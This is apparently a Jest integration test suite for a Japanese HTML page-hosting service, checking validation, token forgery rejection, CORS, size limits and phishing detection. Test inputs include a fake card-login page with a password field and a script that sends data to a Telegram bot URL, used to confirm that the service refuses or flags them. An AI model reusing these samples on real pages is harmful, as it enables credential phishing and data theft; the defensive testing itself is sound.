import { execFile } from 'node:child_process';
import { once } from 'node:events';
import { type IncomingMessage, request } from 'node:http';
import { promisify } from 'node:util';
import { gzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  createSiteAnswerSchema,
  DAY_MS,
  informationAnswerSchema,
  limits,
  openSiteRoute,
  ownSiteSchema,
} from '@haru/contracts';
import { query, waitFor } from '@haru/testing';
import { z } from 'zod';
import { expectRefusal } from './expect-refusal.js';
import { type RunningSystem, startSystem } from './start-system.js';
import { beginToPublish, type UnfinishedRequest } from './unfinished-request.js';

const run = promisify(execFile);

let system: RunningSystem;
let token: string;

beforeAll(async () => {
  const pages = { VIEWER_ORIGIN_PATTERN: 'https://{path}.pages.example', OWN_ORIGINS_FOR: 'needed' };
  system = await startSystem({ env: { AUTH_RATE_LIMITS: '1000', GATEWAY_MAX_BODY_BYTES: '6400000', ...pages } });
  token = (await system.signUp()).access_token;
}, 60_000);

afterAll(() => system.close(), 60_000);

const countRows = async (url: string, table: string) => {
  const [row] = await query<{ count: number }>(url, `SELECT count(*)::int AS count FROM ${table}`);
  return row?.count;
};
const countSites = () => countRows(system.sitesDatabaseUrl, 'sites');
const countUsers = () => countRows(system.authDatabaseUrl, 'users');

const create = (json: unknown, init: { token?: string; headers?: Record<string, string> } = {}) =>
  system.call('/functions/v1/create-site', { method: 'POST', json, ...init });

describe('POST /functions/v1/check-page', () => {
  const check = (html_content: string) =>
    system.call('/functions/v1/check-page', { method: 'POST', json: { html_content } });

  it.each([
    ['a page', '<h1>Hi</h1>', { result: 'passed', findings: [], secrets: [] }],
    [
      'a refused page',
      '<title>楽天カード ログイン</title>\n<input type="password">',
      { result: 'refused', findings: expect.arrayContaining([expect.objectContaining({ line: 2 })]), secrets: [] },
    ],
    [
      'a secret',
      `<p>\nghp_${'a1B2'.repeat(9)}`,
      { result: 'passed', findings: [], secrets: [{ rule: 'github', line: 2 }] },
    ],
  ])('says what publishing %s would find, and publishes nothing', async (_name, html, found) => {
    const before = await countSites();
    const answer = await check(html);
    expect({ status: answer.status, body: await answer.json() }).toEqual({
      status: 200,
      body: { success: true, check: found },
    });
    expect(await countSites()).toBe(before);
  });

  it('refuses a page that cannot be stored', async () => {
    await expectRefusal(await check(' '), 400, 'HTML_BLANK');
  });
});

describe('POST /functions/v1/create-site', () => {
  it('publishes for the account of the token', async () => {
    const answer = await create({ html_content: '<title>やあ</title>', user_id: null, custom_path: null }, { token });
    expect(answer.status).toBe(200);
    const { site, session } = createSiteAnswerSchema.parse(await answer.json());
    expect(site.title).toBe('やあ');
    expect(site.url).toBe(`${system.pagesOrigin}/share/${site.path}`);
    expect(session).toBeUndefined();
  });

  it('publishes a page that search engines leave out', async () => {
    const answer = await create({ html_content: '<p>quiet', noindex: true }, { token });
    const { site } = createSiteAnswerSchema.parse(await answer.json());
    expect(await query(system.sitesDatabaseUrl, `SELECT noindex FROM sites WHERE id = '${site.id}'`)).toEqual([
      { noindex: true },
    ]);
  });

  it('publishes for as long as the call says, and longer only for registered accounts', async () => {
    const answer = await create({ html_content: '<p>3', expires_in_days: 3 }, { token });
    const { site } = createSiteAnswerSchema.parse(await answer.json());
    expect(Math.round((Date.parse(site.expires_at) - Date.now()) / DAY_MS)).toBe(3);
    for (const expires_in_days of [30, 'permanent']) {
      const page = { html_content: '<p>longer', expires_in_days };
      await expectRefusal(await create(page, { token }), 403, 'REGISTRATION_REQUIRED');
      await expectRefusal(await create(page), 403, 'REGISTRATION_REQUIRED');
    }
    for (const expires_in_days of [0, 1.5, 11, '3']) {
      expect((await create({ html_content: '<p>none', expires_in_days }, { token })).status).toBe(400);
    }
  });

  it('makes an account for a bare call, whose session then works', async () => {
    const answer = await fetch(`${system.origin}/functions/v1/create-site`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: '{"html_content":"<h1>やあ</h1>"}',
    });
    const { site, session } = createSiteAnswerSchema.parse(await answer.json());
    expect(site.title).toBe('やあ');
    expect(session?.user.is_anonymous).toBe(true);
    const again = await create({ html_content: '<p>2', user_id: session?.user.id }, { token: session?.access_token });
    expect(again.status).toBe(200);
  });

  it('repeats the first answer for a repeated Idempotency-Key, with and without an account', async () => {
    const before = await countSites();
    for (const bearer of [token, undefined]) {
      const init = { token: bearer, headers: { 'idempotency-key': `key-${bearer?.length}` } };
      const answers = await Promise.all([1, 2, 3].map(() => create({ html_content: '<p>once' }, init)));
      const sites = await Promise.all(
        answers.map(async (answer) => createSiteAnswerSchema.parse(await answer.json()).site),
      );
      expect(new Set(sites.map((site) => site.id)).size).toBe(1);
    }
    expect(await countSites()).toBe((before ?? 0) + 2);
    await expectRefusal(
      await create({ html_content: '<p>another' }, { token, headers: { 'idempotency-key': `key-${token.length}` } }),
      422,
      'IDEMPOTENCY_KEY_REUSED',
    );
  });

  it('believes a user_id only from that account’s token', async () => {
    const other = await system.signUp();
    await expectRefusal(
      await create({ html_content: 'x', user_id: other.user.id }, { token }),
      403,
      'USER_ID_NOT_YOURS',
    );
    await expectRefusal(await create({ html_content: 'x', user_id: other.user.id }), 403, 'USER_ID_NOT_YOURS');
  });

  it('takes an empty custom path and a spelling of the own id for what they mean', async () => {
    const { access_token, user } = await system.signUp();
    const json = { html_content: '<p>x', custom_path: '', user_id: user.id.toUpperCase() };
    expect((await create(json, { token: access_token })).status).toBe(200);
  });

  it('rejects a malformed Authorization header with 401', async () => {
    for (const authorization of [token, 'Basic abc', 'Bearer a b', `Bearer  ${token}`, `Bearer\t${token}`]) {
      await expectRefusal(await create({ html_content: 'x' }, { headers: { authorization } }), 401, 'TOKEN_INVALID');
    }
  });

  it('keeps custom paths for registered accounts, and makes no account when it refuses', async () => {
    const before = await countUsers();
    await expectRefusal(
      await create({ html_content: 'x', custom_path: 'mine' }, { token }),
      403,
      'REGISTRATION_REQUIRED',
    );
    await expectRefusal(await create({ html_content: 'x', custom_path: 'mine' }), 403, 'REGISTRATION_REQUIRED');
    await expectRefusal(await create({ html_content: ' ' }), 400, 'HTML_BLANK');
    expect(await countUsers()).toBe(before);
  });

  it.each([
    ['Japanese and emoji', '<p>貼る 🖌️👩‍👩‍👧 𠮷野家'],
    ['a BOM', '\ufeff<!doctype html><p>x'],
    ['CRLF, lone CR and lone LF', '<p>a\r\nb\rc\nd'],
    ['</script> in odd places', '<!-- </script> --><title></script></title><p title="</script>">{"a":"</script>"}'],
    ['control characters', '<p>\u0001\u001f\u007f\u0085\u2028\u2029'],
    ['exactly 1,048,576 bytes', `<p>${'あ'.repeat((limits.htmlMaxBytes - 4) / 3)}x`],
    ['exactly 1,048,576 bytes, six times that as JSON', '\u0001'.repeat(limits.htmlMaxBytes)],
  ])('returns %s exactly', async (_name, html) => {
    const answer = await create({ html_content: html }, { token });
    const { site } = createSiteAnswerSchema.parse(await answer.json());
    const served = await system.call(`/functions/v1/serve-site?path=${site.path}`);
    const body = (await served.json()) as { site: { html_content: string } };
    expect(body.site.html_content === html).toBe(true);
  });

  it.each([
    ['blank', { html_content: ' \n\t\u3000' }, 400, 'HTML_BLANK'],
    ['empty', { html_content: '' }, 400, 'HTML_BLANK'],
    ['one byte too large', { html_content: 'x'.repeat(limits.htmlMaxBytes + 1) }, 413, 'HTML_TOO_LARGE'],
    ['far too large', { html_content: 'x'.repeat(7 * limits.htmlMaxBytes) }, 413, 'PAYLOAD_TOO_LARGE'],
    ['NUL', { html_content: 'a\0b' }, 400, 'HTML_NOT_TEXT'],
    ['an unpaired surrogate', { html_content: 'a\ud800b' }, 400, 'HTML_NOT_TEXT'],
    ['no html', {}, 400, 'VALIDATION_FAILED'],
    ['html of another type', { html_content: 7 }, 400, 'VALIDATION_FAILED'],
    ['a user_id that is none', { html_content: 'x', user_id: 'me' }, 400, 'VALIDATION_FAILED'],
    ['a list', [], 400, 'VALIDATION_FAILED'],
  ])('refuses %s and writes nothing', async (_name, json, status, code) => {
    const before = await countSites();
    await expectRefusal(await create(json, { token }), status, code);
    expect(await countSites()).toBe(before);
  });

  it('says which rules a refused page matches, in Japanese, and where', async () => {
    const html = '<title>楽天カード ログイン</title>\n<input type="password">';
    const before = await countSites();
    const body = await expectRefusal(await create({ html_content: html }, { token }), 422, 'PAGE_REFUSED');
    expect(body.findings).toEqual([
      {
        ...{ rule: 'credential.password', text: 'パスワードの入力欄' },
        ...{ line: 2, column: 1, excerpt: '<input type="password">' },
      },
      expect.objectContaining({ rule: 'brand.title', text: 'タイトルが他社のサービス名', line: 1, column: 1 }),
    ]);
    expect(await countSites()).toBe(before);
  });

  it('leaves no account behind where the page of a visitor is refused, also when the request is repeated', async () => {
    const before = await countUsers();
    const html_content = '<title>楽天カード ログイン</title><input type="password">';
    const calls: Record<string, string>[] = [{}, { 'idempotency-key': 'refused' }, { 'idempotency-key': 'refused' }];
    const answers = await Promise.all(calls.map((headers) => create({ html_content }, { headers })));
    for (const answer of answers) await expectRefusal(answer, 422, 'PAGE_REFUSED');
    expect(await countUsers()).toBe(before);
  });

  it('keeps the account of a visitor whose next call with its key is refused', async () => {
    const publish = (settings: object) =>
      create({ html_content: '<p>kept', ...settings }, { headers: { 'idempotency-key': 'kept' } });
    expect((await publish({})).status).toBe(200);
    const before = await countUsers();
    await expectRefusal(await publish({ visibility: 'password' }), 422, 'IDEMPOTENCY_KEY_REUSED');
    expect(await countUsers()).toBe(before);
  });

  it('names the field that does not fit', async () => {
    const body = await expectRefusal(await create({ html_content: 7 }, { token }), 400, 'VALIDATION_FAILED');
    expect(body.details?.[0]?.field).toBe('html_content');
  });

  it.each([
    ['wrong JSON', '{"html_content":', 'application/json', 400, 'INVALID_JSON'],
    ['bad UTF-8', Buffer.from('{"html_content":"\xff"}', 'latin1'), 'application/json', 400, 'INVALID_JSON'],
    ['another charset', '{"html_content":"x"}', 'application/json; charset=shift_jis', 415, 'UNSUPPORTED_MEDIA_TYPE'],
    ['null', 'null', 'application/json', 400, 'VALIDATION_FAILED'],
    ['a form', 'html_content=x', 'application/x-www-form-urlencoded', 415, 'UNSUPPORTED_MEDIA_TYPE'],
  ])('refuses %s', async (_name, body, type, status, code) => {
    const answer = await system.call('/functions/v1/create-site', {
      method: 'POST',
      body,
      token,
      headers: { 'content-type': type },
    });
    await expectRefusal(answer, status, code);
  });

  it('refuses a compressed body unread', async () => {
    const bomb = gzipSync(Buffer.alloc(64 * 1024 * 1024, 'x'));
    const answer = await system.call('/functions/v1/create-site', {
      method: 'POST',
      body: bomb,
      token,
      headers: { 'content-encoding': 'gzip' },
    });
    await expectRefusal(answer, 415, 'UNSUPPORTED_MEDIA_TYPE');
  });

  it('refuses tokens that are not ours or not live any more', async () => {
    const ended = await system.signUp();
    await system.call('/auth/v1/logout', { method: 'POST', token: ended.access_token });
    await expectRefusal(await create({ html_content: 'x' }, { token: ended.access_token }), 401, 'SESSION_ENDED');
    const [header, claims, signature] = token.split('.');
    for (const forged of ['nonsense', 'a.b.c', `${header}.${claims}.AAAA`, `${header}.e30.${signature}`]) {
      await expectRefusal(await create({ html_content: 'x' }, { token: forged }), 401, 'TOKEN_INVALID');
    }
    const unsigned = `${Buffer.from('{"alg":"none"}').toString('base64url')}.${claims}.`;
    await expectRefusal(await create({ html_content: 'x' }, { token: unsigned }), 401, 'TOKEN_INVALID');
  });

  it('refuses an unknown key', async () => {
    const answer = await create({ html_content: 'x' }, { token, headers: { apikey: 'something' } });
    expect(answer.status).toBe(401);
    expect(await answer.json()).toEqual({ message: 'Invalid API key' });
  });
});

describe('POST /functions/v1/open-site', () => {
  const open = (path: string, password: string) =>
    system.call('/functions/v1/open-site', { method: 'POST', json: { path, password } });

  it('answers an address of the page, for the password that curl sent', async () => {
    const headers = ['Page-Password: ひみつのことば', 'Accept: application/json'].flatMap((header) => ['-H', header]);
    const published = await run('curl', ['-sS', ...headers, '-d', '<h1>Hi', `${system.origin}/?visibility=password`]);
    const { site } = z.object({ site: ownSiteSchema }).parse(JSON.parse(published.stdout));
    expect(site).toMatchObject({ url: `${system.origin}/open/${site.path}`, visibility: 'password' });
    const answer = await open(site.path, 'ひみつのことば');
    expect(answer.headers.get('cache-control')).toBe('no-store');
    const { url } = openSiteRoute.answer.parse(await answer.json());
    expect(url).toContain(`https://${site.path}.pages.example/~`);
    const [wrong, unknown] = [await open(site.path, 'ひみつ'), await open('unknown-path', 'ひみつ')];
    expect(await wrong.clone().text()).toBe(await unknown.clone().text());
    for (const refused of [wrong, unknown]) await expectRefusal(refused, 403, 'PAGE_PASSWORD_WRONG');
  });

  it('makes no page, and no account, without a password that fits the visibility', async () => {
    const before = await countUsers();
    for (const given of [
      { visibility: 'password' },
      { password: 'ひみつのことば' },
      { visibility: 'password', password: 'x' },
    ]) {
      await expectRefusal(await create({ html_content: 'x', ...given }), 400, 'VALIDATION_FAILED');
    }
    expect(await countUsers()).toBe(before);
  });
});

describe('GET /functions/v1/serve-site', () => {
  it('says what is missing', async () => {
    await expectRefusal(await system.call('/functions/v1/serve-site'), 400, 'PATH_MISSING');
    await expectRefusal(await system.call('/functions/v1/serve-site?path='), 400, 'PATH_MISSING');
    await expectRefusal(await system.call('/functions/v1/serve-site?path=a&path=b'), 400, 'PATH_MISSING');
    await expectRefusal(await system.call('/functions/v1/serve-site?path=nothing8'), 404, 'SITE_NOT_FOUND');
    await expectRefusal(await system.call('/functions/v1/serve-site?path=%00%27'), 404, 'SITE_NOT_FOUND');
  });

  it('answers 410 for what has expired, without the page', async () => {
    const { site } = createSiteAnswerSchema.parse(await (await create({ html_content: 'secret' }, { token })).json());
    await query(system.sitesDatabaseUrl, 'UPDATE sites SET expires_at = now() WHERE id = $1', [site.id]);
    const answer = await system.call(`/functions/v1/serve-site?path=${site.path}`);
    const text = await answer.text();
    expect(answer.status).toBe(410);
    expect(text).toContain('SITE_EXPIRED');
    expect(text).not.toContain('secret');
  });

  it('gives a page under review to no page’s script, and to others with a mark', async () => {
    // The page's score is high enough for the notice.
    const html = '<title>x</title><input type="password"><script>fetch("https://api.telegram.org/bot1:A/sendMessage")';
    const created = createSiteAnswerSchema.parse(await (await create({ html_content: html }, { token })).json());
    expect(created.site.under_review).toBe(true);
    const url = `${system.origin}/functions/v1/serve-site?path=${created.site.path}`;
    for (const origin of ['null', system.pagesOrigin]) {
      const answer = await fetch(url, { headers: { origin } });
      expect(answer.headers.get('access-control-allow-origin')).toBe('*');
      expect(await answer.clone().text()).not.toContain('telegram');
      await expectRefusal(answer, 403, 'SITE_UNDER_REVIEW');
    }
    const site = { title: 'x', html_content: html, under_review: true };
    expect(await (await fetch(url)).json()).toEqual({ success: true, site });
  });

  it('answers a page of an opaque origin, which sends no credentials', async () => {
    const answer = await fetch(`${system.origin}/functions/v1/serve-site?path=nothing8`, {
      headers: { origin: 'null' },
    });
    expect(answer.headers.get('access-control-allow-origin')).toBe('*');
    expect(answer.headers.get('access-control-allow-credentials')).toBeNull();
  });
});

describe('a body of 6 MB', () => {
  it.each([
    ['a wrong key', { apikey: 'something' }, { message: 'Invalid API key' }],
    ['a wrong token', { authorization: 'Bearer a.b.c' }, { code: 'TOKEN_INVALID' }],
  ])('with %s is refused before it is read', async (_name, headers, body) => {
    const { asked, answer } = beginToPublish(system.origin, headers);
    expect(await answer()).toMatchObject({ status: 401, body });
    asked.destroy();
  });
});

describe('while large bodies fill what the gateway may hold', () => {
  let first: UnfinishedRequest;

  beforeAll(() => {
    first = beginToPublish(system.origin);
    first.asked.on('error', () => undefined);
  });

  it('another is answered 503 before it is read', async () => {
    const { asked, answer } = beginToPublish(system.origin);
    expect(await answer()).toMatchObject({ status: 503, body: { code: 'SERVICE_BUSY' } });
    asked.destroy();
  });

  it('one of unknown size is answered 503 as soon as it has become too large', async () => {
    const { asked, answer } = beginToPublish(system.origin, { 'transfer-encoding': 'chunked' });
    asked.write('x'.repeat(500_000));
    expect(await answer()).toMatchObject({ status: 503, body: { code: 'SERVICE_BUSY' } });
    asked.destroy();
  });

  it('small pages are published', async () => {
    expect((await system.publish('<p>small')).status).toBe(200);
  });

  it('and large ones again when it ends', async () => {
    first.asked.destroy();
    await waitFor(async () => (await system.publish('x'.repeat(1_000_000))).status === 200);
  });
});

it('asks for a body that is announced only after its key and token were checked', async () => {
  const announce = async (headers: Record<string, string>) => {
    const asked = request(`${system.origin}/functions/v1/create-site`, {
      method: 'POST',
      headers: { expect: '100-continue', 'content-type': 'application/json', ...headers },
    });
    asked.on('continue', () => asked.end('{"html_content":"<p>announced"}')).flushHeaders();
    const [answer] = (await once(asked, 'response')) as [IncomingMessage];
    asked.destroy();
    return { status: answer.statusCode, isAskedFor: asked.writableEnded };
  };
  expect(await announce({ 'content-length': '31' })).toEqual({ status: 200, isAskedFor: true });
  expect(await announce({ 'content-length': '31', apikey: 'wrong' })).toEqual({ status: 401, isAskedFor: false });
});

it.each([
  ['/functions/v1/check-path?path=abc', 406, { code: 'NOT_ACCEPTABLE' }],
  ['/auth/v1/settings', 406, { code: 'validation_failed', message: expect.stringContaining('Not Acceptable') }],
  ['/rest/v1/sites', 406, { code: 'PGRST107' }],
  ['/storage/v1/object/html-sites', 400, { statusCode: '406' }],
])('answers 406 where Accept leaves out JSON: %s', async (path, status, body) => {
  const method = path.startsWith('/storage') ? 'DELETE' : 'GET';
  const json = method === 'GET' ? undefined : { prefixes: ['x'] };
  const answer = await system.call(path, { method, json, headers: { accept: 'text/csv, application/json;q=0' } });
  expect({ status: answer.status, body: await answer.json() }).toMatchObject({ status, body });
  for (const accept of ['*/*', 'application/*', 'text/html, */*;q=0.1', 'application/json']) {
    expect((await system.call(path, { method, json, headers: { accept } })).status).toBe(200);
  }
});

it('keeps answers that belong to an account out of caches', async () => {
  for (const path of ['/auth/v1/user', '/rest/v1/sites', '/functions/v1/check-path?path=abc', '/admin/v1/role']) {
    expect((await system.call(path, { token })).headers.get('cache-control')).toBe('no-store');
  }
});

it('reports a bad token in the form of each wire', async () => {
  const answerOf = async (path: string, init: object = {}): Promise<unknown> =>
    (await system.call(path, { token: 'a.b.c', ...init })).json();
  expect(await answerOf('/functions/v1/check-path?path=abc')).toEqual({
    success: false,
    error: 'Invalid JWT',
    code: 'TOKEN_INVALID',
  });
  expect(await answerOf('/rest/v1/sites')).toMatchObject({ code: 'PGRST301', message: 'JWSError JWSInvalidSignature' });
  expect(await answerOf('/auth/v1/user')).toMatchObject({
    code: 'bad_jwt',
    message: 'invalid JWT: unable to parse or verify signature',
  });
  const remove = { method: 'DELETE', json: { prefixes: ['x'] } };
  expect(await answerOf('/storage/v1/object/html-sites', remove)).toMatchObject({ message: 'Invalid token' });
});

it('refuses sign-in ways that are off before it looks at the form', async () => {
  const codeOf = async (path: string, json: object) =>
    ((await (await system.call(path, { method: 'POST', json })).json()) as { code: string }).code;
  expect(await codeOf('/auth/v1/sso', { domain: 'example.com' })).toBe('saml_provider_disabled');
  expect(await codeOf('/auth/v1/token?grant_type=web3', { chain: 7 })).toBe('web3_provider_disabled');
  expect(await codeOf('/auth/v1/token?grant_type=web3', {})).toBe('web3_provider_disabled');
});

describe('requests of a published page’s script', () => {
  const ofPage = { origin: 'null' };
  const refusal = 'Requests from published pages are not allowed';

  it.each([
    ['POST', '/functions/v1/create-site', 403, { code: 'ORIGIN_NOT_ALLOWED' }],
    ['POST', '/functions/v1/submit-feedback', 403, { code: 'ORIGIN_NOT_ALLOWED' }],
    ['POST', '/functions/v1/serve-site?path=a', 403, { code: 'ORIGIN_NOT_ALLOWED' }],
    ['POST', '/auth/v1/signup', 403, { code: 'origin_not_allowed', message: refusal }],
    ['POST', '/auth/v1/recover', 403, { code: 'origin_not_allowed', message: refusal }],
    ['GET', '/rest/v1/sites', 403, { code: 'ORIGIN_NOT_ALLOWED', message: refusal, details: null, hint: null }],
    ['DELETE', '/storage/v1/object/html-sites', 400, { statusCode: '403', message: refusal }],
    ['GET', '/config.json', 403, { code: 'ORIGIN_NOT_ALLOWED' }],
  ])('are refused: %s %s', async (method, path, status, body) => {
    const before = await countUsers();
    const json = method === 'GET' ? undefined : { html_content: '<p>x', prefixes: ['x'] };
    const answer = await system.call(path, { method, json, headers: ofPage });
    expect({ status: answer.status, body: await answer.json() }).toMatchObject({ status, body });
    expect(answer.headers.get('access-control-allow-origin')).toBeNull();
    expect(await countUsers()).toBe(before);
    const preflight = await fetch(system.origin + path, {
      method: 'OPTIONS',
      headers: { ...ofPage, 'access-control-request-method': method, 'access-control-request-headers': 'apikey' },
    });
    expect(preflight.headers.get('access-control-allow-origin')).toBeNull();
    expect(preflight.ok).toBe(false);
  });

  it('may preflight and send a GET of serve-site', async () => {
    const url = `${system.origin}/functions/v1/serve-site?path=nothing8`;
    const preflight = await fetch(url, {
      method: 'OPTIONS',
      headers: { ...ofPage, 'access-control-request-method': 'GET', 'access-control-request-headers': 'apikey' },
    });
    expect([preflight.status, preflight.headers.get('access-control-allow-origin')]).toEqual([204, '*']);
    await expectRefusal(await fetch(url, { headers: ofPage }), 404, 'SITE_NOT_FOUND');
  });
});

it('tells a wrong method from an unknown function, and looks at the key first', async () => {
  await expectRefusal(await system.call('/functions/v1/create-site'), 405, 'METHOD_NOT_ALLOWED');
  const unknownKey = { headers: { apikey: 'something' } };
  for (const path of [
    '/functions/v1/nothing',
    '/auth/v1/nothing',
    '/storage/v1/nothing',
    '/auth/v1/.well-known/jwks.json',
  ]) {
    expect((await system.call(path, unknownKey)).status).toBe(401);
  }
});

it('answers a path that cannot be read in the contract’s shape', async () => {
  const answer = await fetch(`${system.origin}/functions/v1/%c0`);
  expect(answer.headers.get('access-control-allow-origin')).toBe('*');
  await expectRefusal(answer, 404, 'ROUTE_NOT_FOUND');
});

it('names the app in security.txt where no other contact is configured', async () => {
  const security = await fetch(`${system.origin}/.well-known/security.txt`);
  expect(security.status).toBe(200);
  expect(await security.text()).toContain(`Contact: ${system.origin}/contact\n`);
});

it('gives the texts of the information pages to visitors, and knows no other', async () => {
  const terms = await system.call('/functions/v1/information?page=terms');
  expect(terms.status).toBe(200);
  expect(informationAnswerSchema.parse(await terms.json()).information.markdown).toMatch(/^# 利用規約\n/);
  await expectRefusal(await system.call('/functions/v1/information?page=other'), 400, 'VALIDATION_FAILED');
});

it('knows no other function', async () => {
  await expectRefusal(await system.call('/functions/v1/nothing', { method: 'POST', json: {} }), 404, 'ROUTE_NOT_FOUND');
});
